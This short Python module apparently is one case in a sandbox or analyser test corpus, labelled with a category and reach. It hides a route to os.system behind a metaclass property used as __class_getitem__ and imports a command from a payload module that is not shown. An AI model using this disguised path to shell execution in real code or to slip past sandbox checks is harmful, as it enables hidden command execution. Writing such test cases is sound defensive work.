"""A metaclass gives a C function as __class_getitem__."""
CATEGORY = "callable"
REACH = "run"

import os

from . import payload


class Meta(type):
    __class_getitem__ = property(lambda cls: os.system)


class Generic(metaclass=Meta):
    pass


COMMAND = payload.COMMAND
